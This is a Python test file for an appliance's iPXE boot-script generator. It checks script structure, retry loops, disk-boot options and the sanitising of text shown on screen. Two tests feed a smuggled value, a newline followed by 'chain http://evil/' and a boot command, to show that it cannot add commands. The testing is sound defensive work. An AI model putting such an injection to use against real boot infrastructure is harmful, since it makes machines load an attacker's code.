"""The scripts that boot itself owns, and what may enter them."""

from __future__ import annotations

from ipaddress import IPv4Address

from hypothesis import given
from hypothesis import strategies as st

from appliance.boot.script import (
    DISCOVER_PAUSE,
    DISCOVER_TRIES,
    SCREEN_LIMIT,
    autoexec_script,
    base_url,
    discover_script,
    own_disk_script,
    screen_text,
    script_path,
    wait_script,
)
from appliance.site.plan import OwnDisk
from tests.unit.boot.boot_world import HV1

BRIDGE = IPv4Address("10.20.0.2")


def wait(reason: str = "it waits for hv1", name: str = "hv2") -> str:
    """Give a wait script."""
    url = "http://10.20.0.2/m/525400000001.ipxe"
    return wait_script(mac=HV1, name=name, state="held", reason=reason, script_url=url)


def test_the_wait_script_says_who_waits_and_why() -> None:
    """The operator reads MAC, name, state and reason on the machine's screen."""
    script = wait()

    assert script.startswith("#!ipxe\n")
    for part in ("52:54:00:00:00:01", "hv2", "held", "it waits for hv1"):
        assert part in script


def test_the_wait_script_never_ends() -> None:
    """Every way through it leads to another round, also when the port is silent for a minute."""
    lines = wait().splitlines()

    assert "sleep 10" in lines
    assert any(line.startswith("chain ") and line.endswith("|| goto network") for line in lines)
    assert "dhcp || goto again" in lines
    assert lines[-1] == "goto again"
    assert not {"exit", "boot", "shell"} & set(lines)


def test_no_line_of_the_wait_script_is_taken_for_an_option() -> None:
    """IPXE's echo reads words that begin with `-` as options."""
    for line in wait(reason="-n --help").splitlines():
        assert not line.startswith("echo -")


@given(st.text())
def test_text_from_outside_is_only_ever_text(text: str) -> None:
    """No line break, expansion, separator or comment of iPXE's comes through."""
    shown = screen_text(text)

    assert all(" " <= char <= "~" for char in shown)
    assert not set("${}\\|&#;") & set(shown)
    assert len(shown) <= SCREEN_LIMIT


def test_a_reason_cannot_add_a_command() -> None:
    """A hostname or log line with iPXE syntax stays one line of echo."""
    evil = "x\nchain http://evil/ || ${net0/mac} ; boot"
    script = wait(reason=evil, name=evil)

    assert script.count("\n") == wait().count("\n")
    assert "${" not in script
    assert "\nchain http://evil" not in script


def test_the_three_ways_to_the_own_disk() -> None:
    """By returning to the firmware, by reading the disk, and by a HTTP status with no script."""
    leave = own_disk_script(OwnDisk.EXIT, name="hv1", reason="it is installed")
    read = own_disk_script(OwnDisk.SANBOOT, name="hv1", reason="it is installed")

    assert leave is not None
    assert leave.endswith("\nexit 1\n")
    assert "sanboot" not in leave
    assert read is not None
    assert "sanboot --no-describe --drive 0x80" in read
    assert read.endswith("\nexit 1\n")
    assert own_disk_script(OwnDisk.NOT_FOUND, name="hv1", reason="") is None


def test_autoexec_chains_to_the_machines_own_script() -> None:
    """Its address is filled in by iPXE with the card's bare MAC, for ever again if it must."""
    script = autoexec_script(BRIDGE)

    assert "chain --replace http://10.20.0.2/m/${net0/mac:hexraw}.ipxe || goto retry" in script
    assert script.endswith("goto network\n")


def test_addresses_name_the_port_only_where_it_is_another() -> None:
    """BMCs and some firmware dislike needless parts in addresses."""
    assert base_url(BRIDGE) == "http://10.20.0.2"
    assert base_url(BRIDGE, 8080) == "http://10.20.0.2:8080"
    assert script_path(HV1) == "/m/525400000001.ipxe"


def discover(reason: str = "its disk is to be found", name: str = "hv2") -> str:
    """Give a script that starts stage-1."""
    return discover_script(
        mac=HV1,
        name=name,
        reason=reason,
        base="http://10.20.0.2",
        script_url="http://10.20.0.2/m/525400000001.ipxe",
        console=("ttyS0,115200n8", "tty1"),
    )


def test_the_discover_script_starts_stage1() -> None:
    """With the bridge and the card that booted: stage-1 need not guess either."""
    lines = discover().splitlines()

    assert lines[0] == "#!ipxe"
    arguments = (
        "initrd=stage1-amd64.initrd bridgehead=http://10.20.0.2 BOOTIF=01-${netX/mac:hexhyp} "
        "console=ttyS0,115200n8 console=tty1"
    )
    files = [each for each in lines if each.startswith(("kernel", "initrd", "imgargs", "boot"))]
    assert files == [
        "kernel http://10.20.0.2/a/stage1-amd64.vmlinuz || goto again",
        "initrd http://10.20.0.2/a/stage1-amd64.initrd || goto again",
        f"imgargs stage1-amd64.vmlinuz {arguments} || goto again",
        "boot || goto again",
    ]
    for part in ("hv2", "52:54:00:00:00:01", "its disk is to be found"):
        assert part in discover()


def test_the_discover_script_never_ends() -> None:
    """Each failure leads to another round, which drops what was fetched, or asks what to do."""
    lines = discover().splitlines()
    labels = {each[1:] for each in lines if each.startswith(":")}
    targets = [each.split("goto ")[1].split()[0] for each in lines if "goto " in each]

    assert set(targets) <= labels
    assert lines.index("imgfree") == lines.index(":fetch") + 1
    assert DISCOVER_TRIES * DISCOVER_PAUSE >= 100
    assert "chain --replace http://10.20.0.2/m/525400000001.ipxe || goto network" in lines
    assert lines[-1] == "goto anew"
    assert not {"exit", "shell", "reboot"} & set(lines)


def test_nothing_from_outside_enters_the_discover_script() -> None:
    """A reason is a text on the screen."""
    evil = "x\nchain http://evil/ || ${net0/mac} ; boot"
    script = discover(reason=evil, name=evil)

    assert script.count("\n") == discover().count("\n")
    assert script.count("${") == discover().count("${")
    assert "\nchain http://evil" not in script
